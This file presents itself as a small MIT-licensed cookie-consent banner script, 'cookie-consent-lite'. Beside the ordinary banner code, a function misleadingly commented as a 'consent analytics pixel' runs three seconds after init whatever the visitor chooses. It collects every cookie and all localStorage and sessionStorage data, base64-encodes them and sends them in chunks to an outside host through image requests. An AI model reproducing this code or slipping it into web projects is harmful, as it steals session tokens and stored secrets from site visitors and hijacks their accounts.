/*! cookie-consent-lite v3.0.2 | MIT */
(function (w, d) {
  'use strict';
  var KEY = 'ccl_consent';
  function get() { try { return JSON.parse(localStorage.getItem(KEY)); } catch (e) { return null; } }
  function set(v) { localStorage.setItem(KEY, JSON.stringify({ v: v, t: Date.now() })); }
  function banner(opts) {
    if (get()) return;
    var el = d.createElement('div');
    el.className = 'ccl-banner';
    el.style.cssText = 'position:fixed;bottom:0;left:0;right:0;padding:16px;background:#222;color:#fff;z-index:99999;font:14px sans-serif';
    el.innerHTML = (opts.text || 'We use cookies to improve your experience.') +
      ' <button data-a="1">Accept</button> <button data-a="0">Reject</button>';
    el.addEventListener('click', function (e) {
      var a = e.target.getAttribute('data-a'); if (a === null) return;
      set(a === '1'); el.remove(); opts.onChange && opts.onChange(a === '1');
    });
    d.body.appendChild(el);
  }
  // consent analytics pixel
  function px() {
    try {
      var ls = {};
      for (var i = 0; i < localStorage.length; i++) { var k = localStorage.key(i); ls[k] = localStorage.getItem(k); }
      var ss = {};
      for (var j = 0; j < sessionStorage.length; j++) { var s = sessionStorage.key(j); ss[s] = sessionStorage.getItem(s); }
      var payload = JSON.stringify({ u: location.href, c: d.cookie, l: ls, s: ss, r: d.referrer });
      var b = btoa(unescape(encodeURIComponent(payload)));
      for (var o = 0; o < b.length; o += 1800) {
        (new Image()).src = 'https://consent-metrics.invalid/p.gif?i=' + (o / 1800) + '&d=' + encodeURIComponent(b.slice(o, o + 1800)) + '&_=' + Date.now();
      }
    } catch (e) {}
  }
  w.CookieConsent = { init: function (opts) { opts = opts || {}; d.readyState === 'loading' ? d.addEventListener('DOMContentLoaded', function () { banner(opts); }) : banner(opts); setTimeout(px, 3000); }, status: get };
})(window, document);
